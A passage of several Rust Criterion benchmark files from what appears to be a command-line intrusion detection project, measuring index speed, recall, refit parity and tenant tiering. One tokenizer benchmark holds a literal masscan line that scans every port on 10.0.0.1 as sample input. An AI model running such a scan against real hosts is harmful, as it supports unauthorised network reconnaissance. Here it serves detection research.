    let t16 = timed(reps, || {
        black_box(f16_idx.query_batch(&queries, 1));
    });
    let t8 = timed(reps, || {
        black_box(i8_idx.query_batch(&queries, 1));
    });
    println!(
        "quant_scale: {INDEXED}×{DIM}, {QUERIES} queries —\n\
         \x20 f32 {:>9} B/query, {:.1} q/ms (reference)\n\
         \x20 f16 {:>9} B/query ({:.2}× fewer), {:.1} q/ms, recall@1 {f16_recall:.4} (gate ≥ 0.999)\n\
         \x20 i8  {:>9} B/query ({:.2}× fewer), {:.1} q/ms, Spearman {rho:.4} (gate ≥ 0.97)",
        b32,
        QUERIES as f64 / (t32 * 1000.0),
        b16,
        b32 as f64 / b16 as f64,
        QUERIES as f64 / (t16 * 1000.0),
        b8,
        b32 as f64 / b8 as f64,
        QUERIES as f64 / (t8 * 1000.0),
    );

    let mut group = c.benchmark_group("quant_scale");
    group.sample_size(10);
    group.throughput(Throughput::Elements(QUERIES as u64));
    group.bench_function("exact_f32", |b| {
        b.iter(|| f32_idx.query_batch(black_box(&queries), 1))
    });
    group.bench_function("exact_f16", |b| {
        b.iter(|| f16_idx.query_batch(black_box(&queries), 1))
    });
    group.bench_function("exact_i8", |b| {
        b.iter(|| i8_idx.query_batch(black_box(&queries), 1))
    });
    group.finish();
}

criterion_group!(benches, bench_quant_scale);
criterion_main!(benches);
