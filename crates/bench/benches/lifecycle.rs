//! Criterion bench + acceptance gate for the online detector
//! lifecycle: a background refit racing live score traffic must
//! converge to verdicts **bit-identical** to a stop-the-world refit
//! on exact backends, deliver exactly one verdict per submitted line
//! across the epoch swap, and keep serving while the replacement
//! epoch fits off to the side.
//!
//! Measurements (persisted to `BENCH_lifecycle.json`, with a summary
//! co-written into the `lifecycle` section of `BENCH_serve.json`
//! beside the micro-batching and net figures):
//!
//! * **quiet refit latency** — take-training + off-lock fit + epoch
//!   swap with no competing traffic;
//! * **refit-under-load latency and serving throughput** — the same
//!   refit while concurrent producers stream scores; the swap holds
//!   the engine write lock only for the installation instant, so
//!   serving throughput during the refit is the headline;
//! * **drift tracker throughput** — PSI observations per second
//!   (the per-micro-batch bookkeeping added to the scoring path).

use bench::{perf, Experiment};
use cmdline_ids::embed::Pooling;
use cmdline_ids::engine::{EmbeddingStore, FittedEngine, ScoringEngine};
use cmdline_ids::pipeline::PipelineConfig;
use criterion::{black_box, criterion_group, criterion_main, Criterion};
use serve::{
    DriftConfig, DriftDetector, LifecycleConfig, RefitSource, ScoringService, ServeConfig,
};
use std::collections::HashMap;
use std::sync::Barrier;
use std::time::{Duration, Instant};

use anomaly::{PcaMethod, RetrievalMethod, VanillaKnnMethod};

const PRODUCERS: usize = 8;
const PER_PRODUCER: usize = 64;

fn experiment() -> Experiment {
    let mut config = PipelineConfig::fast();
    config.train_size = 700;
    config.test_size = 400;
    config.attack_prob = 0.2;
    Experiment::setup(23, config)
}

/// PCA between the two neighbour methods: the refittable resident
/// whose verdicts actually move across an epoch swap.
fn fit_set(exp: &Experiment) -> FittedEngine {
    let store = EmbeddingStore::new(&exp.pipeline);
    let train_lines = exp.train_lines();
    let train = store.view(&train_lines, Pooling::Mean);
    ScoringEngine::new()
        .register(Box::new(RetrievalMethod::new(1)))
        .register(Box::new(PcaMethod::new(0.95)))
        .register(Box::new(VanillaKnnMethod::new(3)))
        .fit(&train, &exp.train_labels())
        .expect("detector set fits")
}

fn lifecycle(exp: &Experiment) -> LifecycleConfig {
    let train: Vec<String> = exp.train_lines().iter().map(|s| s.to_string()).collect();
    let source = RefitSource::new(train, exp.train_labels()).expect("aligned source");
    LifecycleConfig::new(source)
        .with_drift(DriftConfig {
            window: 64,
            bins: 4,
            threshold: 1e9,
            append_threshold: 0,
        })
        .manual()
}

fn spawn(exp: &Experiment) -> ScoringService {
    ScoringService::spawn_with_lifecycle(
        exp.pipeline.clone(),
        fit_set(exp),
        ServeConfig {
            queue_capacity: 64,
            max_batch: 32,
            batch_window: Duration::from_millis(1),
            workers: 2,
        },
        lifecycle(exp),
    )
    .expect("service spawns")
}

fn bench_lifecycle(c: &mut Criterion) {
    let exp = experiment();
    let lines: Vec<String> = exp.dataset.test.iter().map(|r| r.line.clone()).collect();
    let burst: Vec<String> = lines.iter().take(24).cloned().collect();
    let burst_labels: Vec<bool> = burst.iter().map(|l| exp.is_alert(l)).collect();

    // ── Stop-the-world comparator: append, refit quietly, score. ──
    let quiet = spawn(&exp);
    quiet.append(&burst, &burst_labels).expect("quiet append");
    let pre: HashMap<&str, Vec<f32>> = lines
        .iter()
        .map(|l| (l.as_str(), quiet.score_line(l).expect("pre-refit score")))
        .collect();
    let t0 = Instant::now();
    assert_eq!(quiet.refit().expect("quiet refit"), 1);
    let t_quiet_refit = t0.elapsed();
    let post: HashMap<&str, Vec<f32>> = lines
        .iter()
        .map(|l| (l.as_str(), quiet.score_line(l).expect("post-refit score")))
        .collect();
    quiet.shutdown();

    // ── Refit under load: producers stream while the epoch swaps. ──
    let racy = spawn(&exp);
    racy.append(&burst, &burst_labels).expect("racy append");
    let barrier = Barrier::new(PRODUCERS + 1);
    let mut replies = 0usize;
    let mut t_racy_refit = Duration::ZERO;
    let t_load = Instant::now();
    std::thread::scope(|scope| {
        let mut handles = Vec::new();
        for p in 0..PRODUCERS {
            let client = racy.client();
            let (barrier, lines, pre, post) = (&barrier, &lines, &pre, &post);
            handles.push(scope.spawn(move || {
                barrier.wait();
                let mut seen = 0usize;
                for i in 0..PER_PRODUCER {
                    let line = &lines[(p * 31 + i) % lines.len()];
                    let got = client.score_line(line).expect("service alive");
                    // Exactly one epoch per verdict, never a torn mix.
                    assert!(
                        got == pre[line.as_str()] || got == post[line.as_str()],
                        "torn verdict for {line:?} during the swap"
                    );
                    seen += 1;
                }
                seen
            }));
        }
        barrier.wait();
        let t0 = Instant::now();
        assert_eq!(racy.refit().expect("refit under load"), 1);
        t_racy_refit = t0.elapsed();
        for handle in handles {
            replies += handle.join().expect("producer survives the swap");
        }
    });
    let t_load = t_load.elapsed();
    let submitted = PRODUCERS * PER_PRODUCER;
    assert_eq!(
        replies, submitted,
        "a line was dropped or double-scored across the epoch swap"
    );

    // The acceptance gate: refit-under-load ≡ stop-the-world, bit for
    // bit, on the exact backends.
    for line in &lines {
        let got = racy.score_line(line).expect("post-race score");
        assert_eq!(
            got,
            post[line.as_str()],
            "refit under load diverged from stop-the-world for {line:?}"
        );
    }
    let under_load_lines_per_s = submitted as f64 / t_load.as_secs_f64();
    println!(
        "lifecycle/refit: quiet {t_quiet_refit:.2?}, under load {t_racy_refit:.2?}; \
         {submitted} lines served concurrently ({under_load_lines_per_s:.0} lines/s) — \
         verdicts bit-identical to stop-the-world, exactly one per line"
    );

    // ── Drift tracker: per-observation cost of the scoring path. ──
    let mut tracker = DriftDetector::new(DriftConfig::default()).expect("valid config");
    let observations = 1_000_000usize;
    let t0 = Instant::now();
    for i in 0..observations {
        tracker.observe((i % 997) as f32 / 997.0);
    }
    let t_drift = t0.elapsed();
    black_box(tracker.statistic());
    let drift_obs_per_s = observations as f64 / t_drift.as_secs_f64();
    println!(
        "lifecycle/drift: {observations} observations in {t_drift:.2?} \
         ({drift_obs_per_s:.0} obs/s)"
    );

    // Full record beside the other BENCH_* files, plus a summary
    // section co-written into BENCH_serve.json without clobbering the
    // micro_batching / net sections.
    let mut record = perf::Value::object();
    record
        .push("lines", perf::Value::Int(lines.len() as i64))
        .push("methods", perf::Value::Int(3))
        .push("producers", perf::Value::Int(PRODUCERS as i64))
        .push("submitted_during_refit", perf::Value::Int(submitted as i64))
        .push(
            "quiet_refit_ms",
            perf::Value::Float(t_quiet_refit.as_secs_f64() * 1e3),
        )
        .push(
            "under_load_refit_ms",
            perf::Value::Float(t_racy_refit.as_secs_f64() * 1e3),
        )
        .push(
            "under_load_lines_per_s",
            perf::Value::Float(under_load_lines_per_s),
        )
        .push("drift_obs_per_s", perf::Value::Float(drift_obs_per_s))
        .push(
            "gate_bit_identical_to_stop_the_world",
            perf::Value::Bool(true),
        )
        .push("gate_exactly_one_score_per_line", perf::Value::Bool(true));
    let path = perf::write_report("BENCH_lifecycle.json", &record);
    println!("lifecycle: report → {}", path.display());
    let mut summary = perf::Value::object();
    summary
        .push(
            "under_load_refit_ms",
            perf::Value::Float(t_racy_refit.as_secs_f64() * 1e3),
        )
        .push(
            "under_load_lines_per_s",
            perf::Value::Float(under_load_lines_per_s),
        )
        .push("parity", perf::Value::Str("bit-identical".into()));
    let path = perf::merge_report("BENCH_serve.json", "lifecycle", summary);
    println!(
        "lifecycle: summary → {} (lifecycle section)",
        path.display()
    );

    // Criterion timings: the repeated epoch swap itself (empty append
    // log: take-training + fit over the baseline + install).
    let mut group = c.benchmark_group("lifecycle");
    group.sample_size(10);
    group.bench_function("refit_epoch_swap", |b| {
        b.iter(|| racy.refit().expect("refit"))
    });
    group.finish();
    racy.shutdown();
}

criterion_group!(benches, bench_lifecycle);
criterion_main!(benches);
