//! Criterion bench: retrieval scoring (the paper's 1NN over malicious
//! exemplars) and the vanilla-kNN ablation baseline.

use anomaly::{RetrievalDetector, VanillaKnn};
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use linalg::rng::randn;
use rand::{rngs::StdRng, SeedableRng};

fn bench_retrieval(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(5);
    let train = randn(&mut rng, 2_000, 32, 1.0);
    // ~3% malicious, like an alert-labeled production week.
    let labels: Vec<bool> = (0..2_000).map(|i| i % 33 == 0).collect();
    let retrieval = RetrievalDetector::fit(&train, &labels, 1);
    let knn = VanillaKnn::fit(&train, &labels, 3);
    let queries = randn(&mut rng, 128, 32, 1.0);

    let mut group = c.benchmark_group("retrieval");
    group.throughput(Throughput::Elements(128));
    group.bench_function("malicious_only_1nn_128_queries", |b| {
        b.iter(|| retrieval.score_all(black_box(&queries)))
    });
    group.bench_function("vanilla_knn3_128_queries", |b| {
        b.iter(|| knn.score_all(black_box(&queries)))
    });
    group.finish();
}

criterion_group!(benches, bench_retrieval);
criterion_main!(benches);
