//! Criterion bench: the vector-index layer at serving scale — exact
//! brute-force scan vs HNSW graph search over 10k indexed lines.
//!
//! Prints the recall@1 of the approximate backend and the measured
//! batch-query speedup alongside the per-backend timings. The data is
//! cluster-structured Gaussian (command-line embeddings are Zipf-heavy
//! near-duplicates, not isotropic noise), which is also what the
//! retrieval method indexes in production: many variants of few attack
//! templates.

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use index::{ExactIndex, HnswIndex, HnswParams, VectorIndex};
use linalg::rng::{clustered_around, randn};
use rand::{rngs::StdRng, SeedableRng};
use std::time::Instant;

const INDEXED: usize = 10_000;
const DIM: usize = 64;
const CLUSTERS: usize = 250;
const QUERIES: usize = 256;
const NOISE: f32 = 0.25;

fn bench_retrieval_scale(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(9);
    // Queries share the data's cluster centres, as test command lines
    // share the train lines' templates.
    let centers = randn(&mut rng, CLUSTERS, DIM, 1.0);
    let data = clustered_around(&mut rng, &centers, INDEXED, NOISE);
    let queries = clustered_around(&mut rng, &centers, QUERIES, NOISE);

    let exact = ExactIndex::build(data.clone());
    let hnsw = HnswIndex::build(data, HnswParams::default());

    // Recall@1 of the approximate backend against ground truth.
    let truth = exact.query_batch(&queries, 1);
    let approx = hnsw.query_batch(&queries, 1);
    let hits = truth
        .iter()
        .zip(&approx)
        .filter(|(t, a)| t[0].id == a[0].id)
        .count();
    let recall = hits as f64 / QUERIES as f64;

    // Headline speedup, measured outside the criterion loop so the
    // ratio is printed even when only skimming the output.
    let reps = 5;
    let t0 = Instant::now();
    for _ in 0..reps {
        black_box(exact.query_batch(&queries, 1));
    }
    let exact_time = t0.elapsed();
    let t0 = Instant::now();
    for _ in 0..reps {
        black_box(hnsw.query_batch(&queries, 1));
    }
    let hnsw_time = t0.elapsed();
    let speedup = exact_time.as_secs_f64() / hnsw_time.as_secs_f64();
    println!(
        "retrieval_scale: {INDEXED} indexed × {QUERIES} queries (dim {DIM}) — \
         hnsw recall@1 = {recall:.3}, speedup over exact = {speedup:.1}×"
    );
    assert!(recall >= 0.9, "hnsw recall@1 {recall:.3} below 0.9");

    let mut group = c.benchmark_group("retrieval_scale");
    group.sample_size(10);
    group.throughput(Throughput::Elements(QUERIES as u64));
    group.bench_function("exact_10k_256_queries", |b| {
        b.iter(|| exact.query_batch(black_box(&queries), 1))
    });
    group.bench_function("hnsw_10k_256_queries", |b| {
        b.iter(|| hnsw.query_batch(black_box(&queries), 1))
    });
    group.finish();
}

criterion_group!(benches, bench_retrieval_scale);
criterion_main!(benches);
