//! Criterion bench: BPE training and encoding throughput.

use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use rand::{rngs::StdRng, SeedableRng};

fn corpus_lines(n: usize) -> Vec<String> {
    let generator = corpus::BenignGenerator::new();
    let mut rng = StdRng::seed_from_u64(2);
    (0..n).map(|_| generator.generate(&mut rng)).collect()
}

fn bench_tokenize(c: &mut Criterion) {
    let lines = corpus_lines(512);
    let tokenizer = bpe::Trainer::new(800).train(lines.iter().map(|s| s.as_str()));

    let mut group = c.benchmark_group("tokenize");
    group.throughput(Throughput::Elements(lines.len() as u64));
    group.bench_function("encode_512_lines", |b| {
        b.iter(|| {
            let mut total = 0usize;
            for line in &lines {
                total += tokenizer.encode(black_box(line)).len();
            }
            black_box(total)
        })
    });
    group.bench_function("encode_for_model", |b| {
        let line = "masscan 10.0.0.1 -p 0-65535 --rate=1000 >> tmp.txt";
        b.iter(|| tokenizer.encode_for_model(black_box(line), 64))
    });
    group.finish();

    let mut group = c.benchmark_group("bpe_train");
    group.sample_size(10);
    group.bench_function("train_800_vocab_512_lines", |b| {
        b.iter(|| bpe::Trainer::new(800).train(lines.iter().map(|s| s.as_str())))
    });
    group.finish();
}

criterion_group!(benches, bench_tokenize);
criterion_main!(benches);
