//! Criterion bench: the sharded index layer at serving scale — exact
//! vs sharded-exact vs single-shard HNSW vs sharded HNSW over 10k
//! indexed exemplars (dim 64, cluster-structured like production
//! command-line embeddings).
//!
//! What each comparison shows:
//!
//! * **exact vs sharded-exact** — the partition + k-way merge is
//!   asserted *bit-identical*, so its cost is pure overhead measured
//!   here (the point of sharded-exact is write partitioning and
//!   multi-host placement, not batch speed).
//! * **hnsw vs sharded-hnsw, at matched recall ≥ 0.99** — the
//!   standard ANN comparison is speed at a recall tier. A single
//!   10k-node graph needs its full default beam (`ef_search = 128`)
//!   to clear 0.99 here; a 4-way partition holds the same tier with a
//!   beam of **8 per shard**, because each shard only has to find its
//!   *local* top-1 in a graph 1/N the size, and N independent entry
//!   points cannot all miss (measured: 0.996 at every per-shard ef
//!   from 4 to 32). Less total beam work per query — ≈ 1.7× faster
//!   on the 1-core reference container — and the N shard beams run
//!   concurrently on multi-core hosts on top of that. The headline
//!   assertion's floor scales with the cores actually available.
//!
//! The per-backend q/ms figures are also written to
//! `BENCH_shard.json` at the workspace root (see `bench::perf`).

use bench::perf::{self, Value};
use criterion::{black_box, criterion_group, criterion_main, Criterion, Throughput};
use index::{ExactIndex, HnswIndex, HnswParams, ShardedIndex, ShardedParams, VectorIndex};
use linalg::rng::{clustered_around, randn};
use rand::{rngs::StdRng, SeedableRng};
use std::time::Instant;

const INDEXED: usize = 10_000;
const DIM: usize = 64;
const CLUSTERS: usize = 250;
const QUERIES: usize = 256;
const NOISE: f32 = 0.25;
const SHARDS: usize = 4;

fn recall_at_1(truth: &[Vec<index::Neighbor>], approx: &[Vec<index::Neighbor>]) -> f64 {
    let hits = truth
        .iter()
        .zip(approx)
        .filter(|(t, a)| !a.is_empty() && t[0].id == a[0].id)
        .count();
    hits as f64 / truth.len() as f64
}

fn timed(reps: usize, mut f: impl FnMut()) -> f64 {
    let t0 = Instant::now();
    for _ in 0..reps {
        f();
    }
    t0.elapsed().as_secs_f64() / reps as f64
}

fn bench_shard_scale(c: &mut Criterion) {
    let mut rng = StdRng::seed_from_u64(17);
    let centers = randn(&mut rng, CLUSTERS, DIM, 1.0);
    let data = clustered_around(&mut rng, &centers, INDEXED, NOISE);
    let queries = clustered_around(&mut rng, &centers, QUERIES, NOISE);

    let exact = ExactIndex::build(data.clone());
    let sharded_exact = ShardedIndex::build(data.clone(), ShardedParams::exact(SHARDS));
    let hnsw = HnswIndex::build(data.clone(), HnswParams::default());
    // The matched-recall beam: 8 per shard clears the same ≥ 0.99
    // recall tier the single graph needs ef = 128 for (module docs).
    let per_shard_ef = 8;
    let sharded_hnsw = ShardedIndex::build(
        data,
        ShardedParams::hnsw(SHARDS, HnswParams::default().with_ef_search(per_shard_ef)),
    );

    // ── Correctness gates before any timing. ──
    let truth = exact.query_batch(&queries, 1);
    assert_eq!(
        sharded_exact.query_batch(&queries, 1),
        truth,
        "sharded-exact must merge to the unsharded scan bit-for-bit"
    );
    let single_recall = recall_at_1(&truth, &hnsw.query_batch(&queries, 1));
    let sharded_recall = recall_at_1(&truth, &sharded_hnsw.query_batch(&queries, 1));
    assert!(single_recall >= 0.99, "hnsw recall@1 {single_recall:.3}");
    assert!(
        sharded_recall >= 0.99,
        "sharded-hnsw recall@1 {sharded_recall:.3} — the matched-recall \
         comparison is void below the tier"
    );

    // ── Headline timings. ──
    let reps = 5;
    let t_exact = timed(reps, || {
        black_box(exact.query_batch(&queries, 1));
    });
    let t_sharded_exact = timed(reps, || {
        black_box(sharded_exact.query_batch(&queries, 1));
    });
    let t_hnsw = timed(reps, || {
        black_box(hnsw.query_batch(&queries, 1));
    });
    let t_sharded_hnsw = timed(reps, || {
        black_box(sharded_hnsw.query_batch(&queries, 1));
    });
    let hnsw_speedup = t_hnsw / t_sharded_hnsw;
    let cores = std::thread::available_parallelism()
        .map(|t| t.get())
        .unwrap_or(1);
    // The floor scales with the host: on one core only the smaller
    // graphs + narrower matched-recall beams can win (measured
    // ≈ 1.7× on the 1-core reference container); with real
    // parallelism the N concurrent shard beams must add on top.
    let floor = if cores >= SHARDS { 1.5 } else { 1.25 };
    // Print the measured figure *and* the floor the assertion below
    // enforces, so the recorded number and the gate can never drift
    // apart silently (ROADMAP cites this line).
    println!(
        "shard_scale: {INDEXED}×{DIM}, {QUERIES} queries, {SHARDS} shards, {cores} cores —\n\
         \x20 exact {:.1} q/ms | sharded-exact {:.1} q/ms (bit-identical)\n\
         \x20 hnsw(ef={}) {:.1} q/ms recall {single_recall:.3} | \
         sharded-hnsw(ef={per_shard_ef}/shard) {:.1} q/ms recall {sharded_recall:.3} \
         → {hnsw_speedup:.2}× over single-shard (asserted floor {floor}× on {cores} cores)",
        QUERIES as f64 / (t_exact * 1000.0),
        QUERIES as f64 / (t_sharded_exact * 1000.0),
        HnswParams::default().ef_search,
        QUERIES as f64 / (t_hnsw * 1000.0),
        QUERIES as f64 / (t_sharded_hnsw * 1000.0),
    );
    assert!(
        hnsw_speedup >= floor,
        "sharded-hnsw speedup collapsed: {hnsw_speedup:.2}× (floor {floor}× on {cores} cores)"
    );

    // ── Machine-readable record for CI/roadmap diffing. ──
    let q_per_ms = |t: f64| QUERIES as f64 / (t * 1000.0);
    let backend = |name: &str, t: f64, recall: Option<f64>| {
        let mut b = Value::object();
        b.push("backend", Value::Str(name.into()))
            .push("q_per_ms", Value::Float(q_per_ms(t)));
        if let Some(r) = recall {
            b.push("recall_at_1", Value::Float(r));
        }
        b
    };
    let mut record = Value::object();
    record
        .push("bench", Value::Str("shard_scale".into()))
        .push("indexed", Value::Int(INDEXED as i64))
        .push("dim", Value::Int(DIM as i64))
        .push("queries", Value::Int(QUERIES as i64))
        .push("shards", Value::Int(SHARDS as i64))
        .push("cores", Value::Int(cores as i64))
        .push("hnsw_speedup", Value::Float(hnsw_speedup))
        .push("hnsw_speedup_floor", Value::Float(floor))
        .push(
            "backends",
            Value::Array(vec![
                backend("exact", t_exact, None),
                backend("sharded_exact", t_sharded_exact, None),
                backend("hnsw", t_hnsw, Some(single_recall)),
                backend("sharded_hnsw", t_sharded_hnsw, Some(sharded_recall)),
            ]),
        );
    let path = perf::write_report("BENCH_shard.json", &record);
    println!("shard_scale: wrote {}", path.display());

    let mut group = c.benchmark_group("shard_scale");
    group.sample_size(10);
    group.throughput(Throughput::Elements(QUERIES as u64));
    group.bench_function("exact", |b| {
        b.iter(|| exact.query_batch(black_box(&queries), 1))
    });
    group.bench_function("sharded_exact", |b| {
        b.iter(|| sharded_exact.query_batch(black_box(&queries), 1))
    });
    group.bench_function("hnsw", |b| {
        b.iter(|| hnsw.query_batch(black_box(&queries), 1))
    });
    group.bench_function("sharded_hnsw", |b| {
        b.iter(|| sharded_hnsw.query_batch(black_box(&queries), 1))
    });
    group.finish();
}

criterion_group!(benches, bench_shard_scale);
criterion_main!(benches);
