//! Scale bench + acceptance gates for the multi-tenant tier
//! (`serve::tenants`): 10k synthetic tenants under Zipf traffic must
//! converge inside the configured memory envelope, per-tenant
//! verdicts must stay **bit-identical** to a dedicated single-tenant
//! service on exact backends, and serving a hot tenant must beat the
//! cold-tier rebuild-on-touch path by at least 2× — otherwise the
//! tiering is pure overhead.
//!
//! Measurements (persisted to `BENCH_tenants.json`, with a summary
//! co-written into the `tenants` section of `BENCH_serve.json` beside
//! the micro-batching / net / lifecycle figures):
//!
//! * **Zipf convergence** — accounted bytes vs budget after a skewed
//!   traffic replay over all 10k tenants (promotions, demotions, and
//!   evictions counted);
//! * **hot vs cold throughput** — scoring a resident tenant vs
//!   demote-then-score (every touch pays the deserialize + graph
//!   rebuild), the ratio the ≥2× gate holds over;
//! * **exact parity** — a 512-tenant sweep on the exact backend with
//!   interleaved demotions, each tenant checked bit-for-bit against
//!   its dedicated engine.

use bench::perf;
use cmdline_ids::engine::{
    Detector, EmbeddingView, FittedEngine, IndexConfig, MethodScores, Quantization,
};
use corpus::ZipfSampler;
use criterion::{black_box, criterion_group, criterion_main, Criterion};
use linalg::rng::randn;
use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use serve::{TenantConfig, TenantId, TenantService};
use std::time::Instant;

use anomaly::{RetrievalMethod, VanillaKnnMethod};

/// 10k tenants is the scale gate the issue names.
const TENANTS: u64 = 10_000;
/// Per-tenant exemplar partition shape: modest on purpose — the bench
/// stresses the *map* (tiering, eviction, routing), not one index —
/// but big enough that a graph rebuild visibly costs more than a
/// resident-graph search (the ≥2× gate's premise).
const ROWS: usize = 64;
const DIM: usize = 16;
/// Zipf replay length over the tenant population.
const DRAWS: usize = 20_000;
/// Queries per scoring touch.
const BATCH: usize = 4;
/// The envelope: far below the all-hot working set (forcing steady
/// eviction) and above the all-cold floor (so convergence is
/// achievable, which the bench asserts rather than assumes).
const BUDGET: usize = 24 << 20;

fn tenant_view(seed: u64) -> (EmbeddingView, Vec<bool>) {
    let mut rng = StdRng::seed_from_u64(seed);
    let matrix = randn(&mut rng, ROWS, DIM, 1.0);
    let labels = (0..ROWS).map(|i| i % 3 == 0).collect();
    (EmbeddingView::from_matrix(matrix), labels)
}

fn query_view(seed: u64) -> EmbeddingView {
    let mut rng = StdRng::seed_from_u64(seed ^ 0xABCD_EF01);
    EmbeddingView::from_matrix(randn(&mut rng, BATCH, DIM, 1.0))
}

fn dedicated(config: &TenantConfig, view: &EmbeddingView, labels: &[bool]) -> FittedEngine {
    let mut detectors: Vec<Box<dyn Detector>> = vec![
        Box::new(RetrievalMethod::with_index(
            config.retrieval_k,
            config.index,
        )),
        Box::new(VanillaKnnMethod::with_index(config.knn_k, config.index)),
    ];
    for det in &mut detectors {
        det.fit(view, labels).expect("dedicated fit succeeds");
    }
    FittedEngine::from_detectors(detectors)
}

fn score_dedicated(engine: &FittedEngine, view: &EmbeddingView) -> Vec<Vec<f32>> {
    let run = engine.score_each(|_| view.clone());
    transpose(run.outputs(), view.len())
}

fn transpose(outputs: &[MethodScores], n: usize) -> Vec<Vec<f32>> {
    let mut out = vec![Vec::with_capacity(outputs.len()); n];
    for method in outputs {
        for (line, &s) in out.iter_mut().zip(&method.scores) {
            line.push(s);
        }
    }
    out
}

fn bench_tenant_scale(c: &mut Criterion) {
    let config = TenantConfig {
        groups: 8,
        index: IndexConfig::hnsw().with_quant(Quantization::I8),
        mem_budget: BUDGET,
        ..TenantConfig::default()
    };

    // ── Populate: 10k tenants, each with its own exemplar partition. ──
    let svc = TenantService::new(config).expect("valid config");
    let t0 = Instant::now();
    for t in 0..TENANTS {
        let (view, labels) = tenant_view(1_000 + t);
        svc.create_tenant_from_view(TenantId(t), &view, &labels)
            .expect("create succeeds");
    }
    let t_populate = t0.elapsed();
    let after_create = svc.stats();
    println!(
        "tenants/populate: {TENANTS} tenants ({ROWS}×{DIM} each) in {t_populate:.2?} — \
         {} hot / {} cold, {:.1} MiB accounted vs {:.1} MiB budget",
        after_create.hot,
        after_create.cold,
        after_create.accounted_bytes as f64 / (1 << 20) as f64,
        BUDGET as f64 / (1 << 20) as f64,
    );

    // ── Zipf replay: skewed traffic over the whole population. ──
    let sampler = ZipfSampler::new(TENANTS as usize, 1.1);
    let mut rng = StdRng::seed_from_u64(99);
    let t0 = Instant::now();
    for i in 0..DRAWS {
        let t = sampler.sample(&mut rng) as u64;
        let queries = query_view(i as u64);
        let scores = svc
            .score_view(TenantId(t), &queries)
            .expect("score succeeds");
        black_box(scores);
    }
    let t_replay = t0.elapsed();
    let stats = svc.stats();
    let replay_lines_per_s = (DRAWS * BATCH) as f64 / t_replay.as_secs_f64();
    println!(
        "tenants/zipf: {DRAWS} touches ({BATCH} lines each) in {t_replay:.2?} \
         ({replay_lines_per_s:.0} lines/s) — {} promotions, {} evictions, \
         {} hot / {} cold, {:.1} MiB accounted",
        stats.promotions,
        stats.evictions,
        stats.hot,
        stats.cold,
        stats.accounted_bytes as f64 / (1 << 20) as f64,
    );

    // GATE 1: converged within the envelope.
    assert!(
        stats.accounted_bytes <= BUDGET,
        "accounted {} B exceeds the {} B budget after convergence",
        stats.accounted_bytes,
        BUDGET
    );
    assert!(stats.evictions > 0, "the envelope never forced an eviction");

    // The envelope only means something when it sits above the
    // all-cold floor — measure the floor by shedding everything.
    for t in 0..TENANTS {
        svc.demote(TenantId(t)).expect("demote succeeds");
    }
    let floor = svc.stats().accounted_bytes;
    println!(
        "tenants/floor: all-cold floor {:.1} MiB (budget {:.1} MiB)",
        floor as f64 / (1 << 20) as f64,
        BUDGET as f64 / (1 << 20) as f64,
    );
    assert!(floor <= BUDGET, "all-cold floor above the budget");

    // ── Hot vs cold throughput on one tenant. ──
    let probe = TenantId(0);
    let queries = query_view(7_777);
    let warm = svc.score_view(probe, &queries).expect("warm-up score");
    black_box(warm);

    let hot_iters = 400usize;
    let t0 = Instant::now();
    for _ in 0..hot_iters {
        black_box(svc.score_view(probe, &queries).expect("hot score"));
    }
    let t_hot = t0.elapsed();
    let hot_lines_per_s = (hot_iters * BATCH) as f64 / t_hot.as_secs_f64();

    let cold_iters = 100usize;
    let t0 = Instant::now();
    for _ in 0..cold_iters {
        svc.demote(probe).expect("demote succeeds");
        black_box(svc.score_view(probe, &queries).expect("cold score"));
    }
    let t_cold = t0.elapsed();
    let cold_lines_per_s = (cold_iters * BATCH) as f64 / t_cold.as_secs_f64();
    let hot_over_cold = hot_lines_per_s / cold_lines_per_s;
    println!(
        "tenants/tiering: hot {hot_lines_per_s:.0} lines/s vs rebuild-on-touch \
         {cold_lines_per_s:.0} lines/s — {hot_over_cold:.1}× hot advantage"
    );

    // GATE 2: the hot tier must earn its residency.
    assert!(
        hot_over_cold >= 2.0,
        "hot tier only {hot_over_cold:.2}× over cold rebuild-on-touch (gate: ≥2×)"
    );

    // ── Exact-backend parity sweep with interleaved demotions. ──
    let exact_config = TenantConfig {
        groups: 8,
        index: IndexConfig::Exact,
        mem_budget: BUDGET,
        ..TenantConfig::default()
    };
    let parity_tenants = 512u64;
    let exact = TenantService::new(exact_config).expect("valid config");
    let mut parity_rng = StdRng::seed_from_u64(5);
    let mut checked = 0usize;
    for t in 0..parity_tenants {
        let (view, labels) = tenant_view(50_000 + t);
        exact
            .create_tenant_from_view(TenantId(t), &view, &labels)
            .expect("create succeeds");
        let mirror = dedicated(&exact_config, &view, &labels);
        let queries = query_view(60_000 + t);
        if parity_rng.gen_bool(0.5) {
            exact.demote(TenantId(t)).expect("demote succeeds");
        }
        let got = exact
            .score_view(TenantId(t), &queries)
            .expect("score succeeds");
        // GATE 3: bit-identical to the dedicated single-tenant service.
        assert_eq!(
            got,
            score_dedicated(&mirror, &queries),
            "tenant {t} diverged from its dedicated engine"
        );
        checked += 1;
    }
    println!(
        "tenants/parity: {checked} exact-backend tenants bit-identical to dedicated engines \
         (half demoted mid-sweep)"
    );

    // ── Persist the record + the BENCH_serve.json summary section. ──
    let mut record = perf::Value::object();
    record
        .push("tenants", perf::Value::Int(TENANTS as i64))
        .push("rows_per_tenant", perf::Value::Int(ROWS as i64))
        .push("dim", perf::Value::Int(DIM as i64))
        .push("budget_bytes", perf::Value::Int(BUDGET as i64))
        .push(
            "accounted_bytes",
            perf::Value::Int(stats.accounted_bytes as i64),
        )
        .push("zipf_draws", perf::Value::Int(DRAWS as i64))
        .push("replay_lines_per_s", perf::Value::Float(replay_lines_per_s))
        .push("promotions", perf::Value::Int(stats.promotions as i64))
        .push("demotions", perf::Value::Int(stats.demotions as i64))
        .push("evictions", perf::Value::Int(stats.evictions as i64))
        .push("hot_tenants", perf::Value::Int(stats.hot as i64))
        .push("hot_lines_per_s", perf::Value::Float(hot_lines_per_s))
        .push("cold_lines_per_s", perf::Value::Float(cold_lines_per_s))
        .push("hot_over_cold", perf::Value::Float(hot_over_cold))
        .push("parity_tenants", perf::Value::Int(checked as i64))
        .push("gate_within_budget", perf::Value::Bool(true))
        .push("gate_hot_2x_cold", perf::Value::Bool(true))
        .push(
            "gate_parity",
